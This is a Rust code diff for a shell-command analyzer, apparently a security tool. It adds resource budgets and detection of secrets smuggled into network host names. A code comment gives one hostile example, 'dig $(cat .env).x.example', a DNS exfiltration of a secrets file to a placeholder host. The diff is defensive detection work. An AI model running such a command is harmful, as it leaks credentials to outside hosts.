@@ -10,7 +10,7 @@ use ringfence_action::{
 use crate::invocation::{Data, Invocation};
 use crate::shell::Inherited;
 use crate::value::{Span, Value, Word};
-use crate::{Analysis, Need, argv, code, hosts, shell};
+use crate::{Analysis, Need, argv, code, hosts, paths, shell};
 
 /// Limits of one analysis. Reaching one is an opaque remark, never an error.
 pub(crate) mod limits {
@@ -20,6 +20,10 @@ pub(crate) mod limits {
     pub(crate) const DEPTH: usize = 8;
     /// Steps of all interpreters together: commands, words, list elements.
     pub(crate) const FUEL: usize = 20_000;
+    /// Bytes of all values, outputs and targets together: what doubles stops here.
+    pub(crate) const HELD: usize = 4 << 20;
+    /// Bytes of one value; a longer one is unknown.
+    pub(crate) const VALUE_BYTES: usize = CODE_BYTES;
     /// Effects of one action; the rest is opaque.
     pub(crate) const EFFECTS: usize = 2_000;
 }
@@ -102,7 +106,12 @@ pub(crate) struct Frame {
     pub(crate) inherited: Rc<Inherited>,
     /// A word of the command was fetched from the network, from here.
     pub(crate) fetched: Option<Value>,
+    /// A word of the command has the content of this file in it.
+    pub(crate) embedded: Option<Value>,
 }
+
+/// What a program costs: its options are read, and its rules are applied.
+const PROGRAM_STEPS: usize = 12;
 
 /// One analysis in progress.
 pub(crate) struct Analyzer<'a> {
@@ -111,6 +120,7 @@ pub(crate) struct Analyzer<'a> {
     seen: HashSet<Effect>,
     written: HashMap<String, Data>,
     fuel: usize,
+    held: usize,
     depth: usize,
 }
 
@@ -122,11 +132,19 @@ impl<'a> Analyzer<'a> {
             seen: HashSet::new(),
             written: HashMap::new(),
             fuel: limits::FUEL,
+            held: 0,
             depth: 0,
         }
     }
 
-    pub(crate) fn finish(self) -> Analysis {
+    pub(crate) fn finish(mut self) -> Analysis {
+        let files = self.written.into_iter().filter(|(path, _)| !path.starts_with("/dev/"));
+        self.found.written = files
+            .map(|(path, content)| match content {
+                Data::Text(text, _) => (path, Some(text)),
+                Data::None | Data::File(_) | Data::Network(_) | Data::Unknown => (path, None),
+            })
+            .collect();
         self.found
     }
 
@@ -140,6 +158,7 @@ impl<'a> Analyzer<'a> {
             conditional: false,
             inherited: Rc::default(),
             fetched: None,
+            embedded: None,
         }
     }
 
@@ -159,12 +178,26 @@ impl<'a> Analyzer<'a> {
             effect.evidence = Some(frame.source.evidence(span));
         }
         if effect.kind == EffectKind::Net {
+            self.carries(frame, &mut effect);
             hosts::classify(&mut effect);
         }
+        self.hold(effect.target.text().len());
         if self.found.effects.len() >= limits::EFFECTS {
             self.opaque(frame, span, OpaqueReason::OutOfFuel, "more effects than are followed");
         } else if self.seen.insert(effect.clone()) {
             self.found.effects.push(effect);
+        }
+    }
+
+    /// A name or address that a secret was put into takes it along: `dig $(cat .env).x.example`.
+    fn carries(&self, frame: &Frame, effect: &mut Effect) {
+        use ringfence_action::Attr;
+        let Some(path) = &frame.embedded else { return };
+        let url = effect.attributes.text(Attr::Url).unwrap_or_default();
+        let computed = effect.target.as_known().is_none() || url.contains('*');
+        if computed && paths::is_secret(self, frame, path) {
+            effect.attributes.set(Attr::Upload, true);
+            effect.attributes.set(Attr::Payload, paths::locate(self, frame, path).to_string());
         }
     }
 
@@ -207,6 +240,13 @@ impl<'a> Analyzer<'a> {
 
     /// Remembers that this action gives a file (absolute path) new content.
     pub(crate) fn wrote(&mut self, path: &str, content: Data) {
+        let content = match content {
+            Data::Text(text, _) if text.len() > limits::VALUE_BYTES => Data::Unknown,
+            content => content,
+        };
+        if let Data::Text(text, _) = &content {
+            self.hold(text.len());
+        }
         self.written.insert(path.to_owned(), content);
     }
 
@@ -217,12 +257,30 @@ impl<'a> Analyzer<'a> {
 
     /// Takes one step; false when the budget is used up, after saying so once.
     pub(crate) fn step(&mut self, frame: &Frame, span: Span) -> bool {
-        if self.fuel == 0 {
+        if self.exhausted() {
             self.opaque(frame, span, OpaqueReason::OutOfFuel, "more steps than are followed");
             return false;
         }
         self.fuel -= 1;
         true
+    }
+
+    /// Whether the budget is used up: what is left is not looked at.
+    pub(crate) fn exhausted(&self) -> bool {
+        self.fuel == 0
+    }
+
+    /// Takes so many steps more, for work that grows with what is there.
+    pub(crate) fn spend(&mut self, steps: usize) {
+        self.fuel = self.fuel.saturating_sub(steps);
+    }
+
+    /// So many bytes are made of others. Too many of them use up the budget.
+    pub(crate) fn hold(&mut self, bytes: usize) {
+        self.held = self.held.saturating_add(bytes);
+        if self.held > limits::HELD {
+            self.fuel = 0;
+        }
     }
 
     /// Runs code within code: `body` one level deeper, or an opaque remark.
@@ -238,11 +296,13 @@ impl<'a> Analyzer<'a> {
 
     /// A program with its arguments is about to run. Returns what it writes to standard output.
     pub(crate) fn run(&mut self, frame: &Frame, invocation: &Invocation) -> Data {
+        self.spend(PROGRAM_STEPS + invocation.argv.len());
         let mut output = Data::Unknown;
         self.deeper(frame, invocation.span(), |analyzer| {
             output = argv::run(analyzer, frame, invocation);
         });
         if let Some(known) = shell::static_output(self, frame, invocation) {
+            shell::copied(self, frame, invocation, &known);
             return known;
         }
         match (output, &invocation.stdin) {
